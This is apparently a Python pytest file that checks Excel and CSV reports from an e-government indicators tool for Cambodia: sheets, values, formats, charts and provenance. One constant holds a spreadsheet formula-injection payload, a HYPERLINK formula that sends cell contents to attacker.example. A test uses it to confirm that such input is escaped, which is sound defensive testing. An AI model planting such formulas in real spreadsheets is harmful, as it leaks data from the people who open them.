"""The Excel report opened again with openpyxl: sheets, values equal to the stored ones, number formats, frozen
headers, column widths, native charts, provenance, and no formula anywhere (formula injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart, LineChart

from indicators.ingest.imports import import_files, open_seeded_store
from indicators.report import build_workbook, gather, table_csv
from indicators.report import tables as report_tables
from tests.unit.test_report_helpers import cambodia_2024, seeded_store


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    yield from seeded_store(tmp_path_factory)


@pytest.fixture(scope="module")
def cambodia(seeded):
    return cambodia_2024(seeded)


ENGLISH_SHEETS = [
    "Cover",
    "Summary",
    "Sub-indices by edition",
    "Components",
    "Peers (ASEAN)",
    "Targets and status",
    "Outlook",
    "Sources and method",
]
KHMER_SHEETS = ["ទំព័រមុខ", "សេចក្តីសង្ខេប", "អនុសន្ទស្សន៍តាមឆ្នាំ", "សមាសធាតុ", "ប្រទេសអាស៊ាន", "គោលដៅ និងស្ថានភាព", "ទស្សនវិស័យ", "ប្រភព និងវិធីសាស្ត្រ"]
MALICIOUS = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def english(cambodia, tmp_path_factory):
    path = tmp_path_factory.mktemp("wb") / "report-en.xlsx"
    path.write_bytes(build_workbook(cambodia, "en"))
    return load_workbook(path)


def rows(sheet) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column_of(sheet, header: str, row: int = 1) -> int:
    return next(cell.column for cell in sheet[row] if cell.value == header)


def test_sheets_are_named_in_the_report_language(cambodia, english, tmp_path):
    assert english.sheetnames == ENGLISH_SHEETS
    path = tmp_path / "report-km.xlsx"
    path.write_bytes(build_workbook(cambodia, "km"))
    khmer = load_workbook(path)
    assert khmer.sheetnames == KHMER_SHEETS
    assert khmer[KHMER_SHEETS[2]]["A1"].value == "ឆ្នាំស្ទង់មតិ"
    assert khmer[KHMER_SHEETS[1]]["A2"].value == "សន្ទស្សន៍អភិវឌ្ឍន៍រដ្ឋាភិបាលអេឡិចត្រូនិក"


def test_sub_indices_are_the_stored_numbers_with_number_formats(english, seeded):
    sheet = english["Sub-indices by edition"]
    assert [c.value for c in sheet[1]] == [
        "Edition",
        "EGDI",
        "OSI",
        "TII",
        "HCI",
        "EPI",
        "World rank",
        "ASEAN rank",
        "EGDI group",
        "Rating class",
    ]
    stored = seeded.observations(entities=["KHM"], kinds=["published"])
    for row in sheet.iter_rows(min_row=2):
        edition = row[0].value
        assert isinstance(edition, int) and row[0].number_format == "0"
        for cell, code in zip(row[1:6], ("egdi", "osi", "tii", "hci", "epi"), strict=True):
            expected = stored[(stored["year"] == edition) & (stored["indicator"] == code)]["value"].iloc[0]
            assert cell.value == expected and cell.data_type == "n" and cell.number_format == "0.0000"
        rank = stored[(stored["year"] == edition) & (stored["indicator"] == "rank_published")]["value"].iloc[0]
        assert row[6].value == int(rank) and row[6].number_format == "0"
    last = [c.value for c in sheet[sheet.max_row]]
    assert last[:8] == [2024, 0.57536, 0.45034, 0.76094, 0.51489, 0.3151, 120, 8] and last[8] == "High" and last[9] is None
    assert sheet.freeze_panes == "B2"
    assert all(sheet.column_dimensions[letter].width >= 8 for letter in "ABCDEFGHIJ")


def test_summary_has_changes_with_signed_formats_and_the_key_messages(english):
    sheet = english["Summary"]
    assert [c.value for c in sheet[1]] == ["Figure", "Value 2024", "Value 2022", "Change"]
    egdi = [c for c in sheet[2]]
    assert egdi[0].value == "E-Government Development Index" and egdi[1].value == 0.57536 and egdi[2].value == 0.5056
    assert egdi[3].value == pytest.approx(0.06976) and egdi[3].number_format == "+0.0000;-0.0000;0.0000"
    world = [c.value for c in sheet[7]]
    assert world == ["World rank", 120, 127, -7] and sheet.cell(7, 4).number_format == "+0;-0;0"
    assert sheet.freeze_panes == "A2"
    texts = [r[0] for r in rows(sheet)]
    assert "Key messages" in texts and "Since 2022, the EGDI rose by 0.0698 to 0.5754." in texts


def test_native_charts_draw_the_main_series(english):
    (trend,) = english["Sub-indices by edition"]._charts
    assert isinstance(trend, LineChart) and len(trend.series) == 4
    (peers,) = english["Peers (ASEAN)"]._charts
    assert isinstance(peers, BarChart) and peers.type == "bar"
    (summary,) = english["Summary"]._charts
    assert isinstance(summary, BarChart) and len(summary.series) == 2


def test_peers_highlight_the_country(english):
    sheet = english["Peers (ASEAN)"]
    table = rows(sheet)
    assert table[0][:3] == ["ASEAN rank", "Country", "ISO3"]
    assert [r[2] for r in table[1:12]][:3] == ["SGP", "THA", "MYS"]
    cambodia_row = next(i for i, r in enumerate(table, start=1) if r[2] == "KHM")
    assert table[cambodia_row - 1][0] == 8 and sheet.cell(cambodia_row, 2).font.bold


def test_components_keep_year_value_unit_and_source(english):
    table = rows(english["Components"])
    assert table[0] == ["Indicator", "Code", "Year", "Value", "Unit", "Source", "File", "Row", "Version"]
    internet = next(r for r in table if r[1] == "internet_users_pct" and r[2] == 2022)
    assert internet[3] == 56.7 and internet[5] == "ITU, via World Bank" and internet[6] == "cambodia-indicators.csv" and internet[8] == 2


def test_targets_sheet_has_every_target_and_milestone(english):
    table = rows(english["Targets and status"])
    assert table[0][:3] == ["Target", "Code", "Baseline year"] and len(table) == 1 + 24
    first = table[1]
    assert first[0] == "EGDI in the Very High group by 2034" and first[6] == 2025 and first[7] == 0.6 and first[8] == "On track"


def test_sources_name_the_file_and_version_of_every_figure_and_the_method(english):
    sheet = english["Sources and method"]
    table = rows(sheet)
    header = table[0]
    assert header == ["Used in", "Country", "Year", "Code", "Value", "Source", "File", "Sheet", "Row", "Column", "Version", "Dataset"]
    egdi_2024 = next(r for r in table if r[1] == "Cambodia" and r[2] == 2024 and r[3] == "egdi")
    assert egdi_2024[4] == 0.57536 and egdi_2024[6] == "undesa-cambodia-asean.csv" and egdi_2024[9] == "E-Government Index"
    assert egdi_2024[10] == 1 and egdi_2024[11] == "bundled:undesa-cambodia-asean"
    assert {r[10] for r in table[1:] if isinstance(r[10], int)} >= {1, 2}
    texts = [r[0] for r in table if isinstance(r[0], str)]
    assert "Method of the 2024 edition: egdi-2024" in texts
    assert "egdi" in texts and "subindices.tii" in texts and sheet.freeze_panes == "A2"


def test_the_cover_lists_the_data_versions_used(english):
    table = rows(english["Cover"])
    assert table[0][0] == "E-Government Readiness Report" and table[1][0] == "Cambodia, UN E-Government Survey 2024"
    facts = {r[0]: r[1] for r in table if r[0]}
    assert facts["ISO3"] == "KHM" and facts["Edition"] == 2024 and facts["Data versions"] == "1, 2"
    header = next(i for i, r in enumerate(table) if r[0] == "Version")
    assert [table[header + 1][0], table[header + 2][0]] == [1, 2]
    assert table[header + 1][3] == "undesa-cambodia-asean.csv"


def test_a_stored_formula_never_becomes_a_formula_in_the_workbook_or_the_csv(tmp_path: Path):
    source = tmp_path / "=injected.csv"
    source.write_text(
        f'entity,year,indicator,value,source\nCambodia,2023,internet_users_pct,60.1,"{MALICIOUS.replace(chr(34), 2 * chr(34))}"\n'
    )
    store = open_seeded_store(str(tmp_path / "egdi.sqlite"))
    _, landed = import_files([str(source)], store)
    assert landed
    content = gather(store, "KHM")
    path = tmp_path / "report.xlsx"
    path.write_bytes(build_workbook(content, "en"))
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    components = rows(book["Components"])
    injected = next(r for r in components if r[1] == "internet_users_pct" and r[2] == 2023)
    assert injected[5] == "'" + MALICIOUS and injected[6] == "'=injected.csv"
    sources = rows(book["Sources and method"])
    assert any(r[5] == "'" + MALICIOUS for r in sources)
    parsed = list(csv.reader(io.StringIO(table_csv(report_tables.components(content, "en")).decode("utf-8-sig"))))
    row = next(r for r in parsed if r[1] == "internet_users_pct" and r[2] == "2023")
    assert row[5] == "'" + MALICIOUS and row[6] == "'=injected.csv" and row[3] == "60.1"
    store.close()


def test_the_main_table_as_csv_has_headers_in_the_report_language(cambodia):
    text = table_csv(report_tables.history(cambodia, "km")).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("ឆ្នាំស្ទង់មតិ,EGDI,OSI,TII,HCI,EPI,ចំណាត់ថ្នាក់ពិភពលោក")
    assert lines[-1].startswith("2024,0.57536,0.45034,0.76094,0.51489,0.3151,120,8,ខ្ពស់")


def test_target_edits_come_from_the_store_with_their_version(tmp_path: Path):
    from dataclasses import replace

    from indicators.outlook.targets import load_targets, targets_dataset, with_edit

    store = open_seeded_store(str(tmp_path / "egdi.sqlite"))
    targets = load_targets()
    osi = replace(targets.target("osi"), values={2025: 0.6, 2030: 0.7, 2035: 0.8})
    _, tidy = with_edit(targets, osi, [])
    outcome = store.import_tidy(tidy, dataset=targets_dataset(targets), kind="targets", file_name="targets page", checksum="x", user="ana")
    content = gather(store, "KHM")
    assert outcome.version_id in content.version_ids
    path = tmp_path / "report.xlsx"
    path.write_bytes(build_workbook(content, "en"))
    book = load_workbook(path)
    goal = next(r for r in rows(book["Targets and status"]) if r[1] == "osi" and r[6] == 2025)
    assert goal[7] == 0.6
    sources = rows(book["Sources and method"])
    edit = next(r for r in sources if r[0] == "Targets and status" and r[3] == "target:osi" and r[2] == 2025)
    assert edit[4] == 0.6 and edit[6] == "targets page" and edit[10] == outcome.version_id
    assert any(str(r[0]).startswith("Targets: data/targets/digital-government-policy.yaml") for r in sources)
    store.close()
